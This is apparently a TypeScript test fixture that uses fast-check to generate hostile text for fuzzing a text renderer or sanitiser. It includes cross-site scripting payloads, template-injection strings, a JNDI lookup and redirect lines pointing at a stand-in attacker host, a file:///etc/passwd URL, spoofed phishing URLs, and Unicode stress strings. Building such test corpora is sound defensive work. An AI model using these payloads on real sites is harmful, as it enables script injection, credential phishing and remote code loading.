/** Texts that want to be more than text: to run, to lead away, to turn the page round, to grow over what is next to them. */
import fc from 'fast-check'

/** What every script among the texts would do first. */
export const SENTINEL = '__ran'
const RUN = `window.${SENTINEL}=1`

const storm = (times: number) => `Z${'\u0351\u0363\u0489\u0300\u20dd'.repeat(times)}a\u0332l\u0334go`
const nested = (open: string, close: string) => open.repeat(400) + close.repeat(400)

export const corpus: readonly string[] = [
  `<script>${RUN}</script>`,
  `</p><script src="/config.json"></script><p>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${SENTINEL}=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">a link</a>`,
  `<form action="//evil.example"><button formaction="javascript:${RUN}">x</button></form>`,
  `<style>*{display:none}@import'//evil.example'</style><link rel=stylesheet href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>`,
  `<details open ontoggle=${RUN}><math><mtext></form><form><mglyph><svg><mtext><textarea><a title="</textarea><img src onerror=${RUN}>">`,
  `"><body onload=${RUN} onpageshow=${RUN}>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &amp; &#x41; &nbsp; &#0; &zwj;`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} #{${RUN}} <%= ${RUN} %> {% raw %} {{{{x}}}}`,
  `__proto__ constructor toString ${'%s%n%x'.repeat(20)} \${jndi:ldap://evil.example/a}`,
  `javascript:${RUN} JaVaScRiPt:${RUN} java\tscript:${RUN} \u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script> data:text/html;base64,PHNjcmlwdD4= vbscript:msgbox(1)`,
  'file:///etc/passwd blob:https://x/1 view-source:https://example.org intent://x#Intent;end',
  'https://clinic.example@evil.example/login http://user:pass@evil.example https://\u202egro.elpmaxe',
  'https://xn--80ak6aa92e.com https://аррӏе.example http://127.0.0.1:22 http://[::1]/ https://%00.example',
  `https://example.com/${'path/'.repeat(750)}`,
  `https://example.com/?${'q='.repeat(1_900)}`,
  `https://${'a'.repeat(3_900)}.example`,
  `mailto:${'a'.repeat(2_000)}@example.org?subject=${'%0d%0abcc:'.repeat(40)}`,
  'tel:+1234567890123456789012345678901 tel:*21*0123456789# sms:+1?body=x',
  'a'.repeat(4_000),
  'W'.repeat(4_000),
  'ﷺ'.repeat(1_000),
  '﷽'.repeat(1_000),
  '𒐫'.repeat(1_000),
  'ك'.repeat(4_000),
  '漢'.repeat(4_000),
  'ไ'.repeat(2_000),
  `${'\u0e33'.repeat(1_000)}${'\u0e4d'.repeat(300)}`,
  storm(60),
  storm(790),
  `${'\u0300'.repeat(3_000)}before any letter`,
  `o${'\u0483\u0484\u0485\u0486\u0487'.repeat(300)} ${'\u0f39'.repeat(300)} ${'\u1ab2'.repeat(300)}`,
  '\u202egnirts desrever\u202c, \u202dforced\u202c, \u2067isolated\u2069',
  `${'\u202e'.repeat(500)}never closed`,
  `${'\u2067\u2066'.repeat(200)}deep isolates`,
  `${'\u2069\u202c'.repeat(500)}closed before opened`,
  'Mixed: سلام then English then שלום 123 \u200f(\u200e) end\u061c.',
  '\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u3164\uffa0',
  `zero${'\u200b'.repeat(2_000)}width`,
  `joined${'\u2060'.repeat(1_000)}${'\u00a0'.repeat(2_000)}hard`,
  `soft${'\u00ad'.repeat(1_000)}hyphens`,
  '\u0000\u0001\u0007\u0008\u000b\u000c\u001b[31mred\u001b[0m\u007f\u0085\u009b31m\u2028\u2029',
  '\r\n'.repeat(1_999),
  '\t'.repeat(4_000),
  ` ${' '.repeat(3_990)}x`,
  '\n'.repeat(60),
  '😀'.repeat(2_000),
  '👩🏽‍⚕️'.repeat(300),
  '👨‍👩‍👧‍👦'.repeat(300),
  `👩${'\u200d👩'.repeat(1_000)}`,
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(200),
  `${'🇫🇷'.repeat(900)}🇫`,
  `${'👍'.repeat(100)}${'🏿'.repeat(500)}`,
  '\ud83d',
  '\ude00\ud83d'.repeat(500),
  'half \ud83d\u0000 pair \udfff\ud800',
  '\ufffe\uffff\u{1fffe}\u{10ffff}\ue000',
  nested('(', ')'),
  nested('[', ']'),
  `https://example.com/${nested('(', ')')}`,
  '1'.repeat(4_000),
  '1/'.repeat(2_000),
  '+1 (234) 567-'.repeat(300),
  '0 '.repeat(2_000),
  `${'ﬀ'.repeat(1_000)}${'ŀ'.repeat(1_000)}${'㎯'.repeat(500)}`,
  `${'⠀'.repeat(1_000)}blank letters${'\u3000'.repeat(500)}`,
  '\u{e0041}'.repeat(1_000),
  'a\ufe0f\u20e3'.repeat(500),
  `${'꧅'.repeat(500)}${'⸻'.repeat(500)}`,
]

const fragment = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...corpus.map(text => [...text].slice(0, 120).join(''))) },
  { weight: 4, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.lorem({ maxCount: 12 }) },
  { weight: 2, arbitrary: fc.webUrl({ withFragments: true, withQueryParameters: true }) },
  // Halves of surrogate pairs, in any order.
  {
    weight: 1,
    arbitrary: fc
      .array(fc.integer({ min: 0xd7f0, max: 0xe010 }), { maxLength: 20 })
      .map(units => String.fromCharCode(...units)),
  },
  // One thing many times over.
  {
    weight: 3,
    arbitrary: fc
      .tuple(
        fc.oneof(
          fc.constantFrom(
            'a',
            'W',
            ' ',
            '\n',
            '\u0489',
            '\u202e',
            '\u2067',
            '\u200d',
            '👩\u200d',
            '🏽',
            'ﷺ',
            '𒐫',
            '(',
            '1/',
          ),
          fc.string({ unit: 'binary', minLength: 1, maxLength: 3 }),
        ),
        fc.integer({ min: 1, max: 600 }),
      )
      .map(([text, times]) => text.repeat(times)),
  },
  // Combining marks upon combining marks.
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        fc.constantFrom('Z', 'ا', '中', '👍', ''),
        fc.array(fc.integer({ min: 0x300, max: 0x36f }), { minLength: 1, maxLength: 200 }),
      )
      .map(([base, marks]) => base + String.fromCharCode(...marks)),
  },
  // Mark-up around anything.
  {
    weight: 3,
    arbitrary: fc
      .tuple(
        fc.constantFrom('script', 'img', 'svg', 'iframe', 'a', 'style', 'object', 'math', 'template', 'x-y'),
        fc.constantFrom(
          'onerror',
          'onload',
          'href',
          'src',
          'srcdoc',
          'style',
          'onfocus autofocus tabindex=0 x',
        ),
        fc.string({ maxLength: 12 }),
        fc.constantFrom('', `javascript:${RUN}`, RUN, 'data:text/html,x', '//evil.example'),
      )
      .map(([tag, attribute, inner, value]) => `<${tag} ${attribute}="${value}">${inner}</${tag}>`),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.constantFrom('javascript:', 'data:', 'vbscript:', 'file:', 'https://', 'mailto:', 'tel:'),
        fc.string(),
      )
      .map(([scheme, rest]) => scheme + rest),
  },
)

/** `count` texts of at most 4,000 characters: the corpus, and what the seed makes of it. */
export function hostileTexts(count: number, seed: number): string[] {
  const made = fc.sample(
    fc.array(fragment, { minLength: 1, maxLength: 6 }).map(parts => parts.join('').slice(0, 4_000)),
    { seed, numRuns: count - corpus.length },
  )
  return [...corpus, ...made]
}
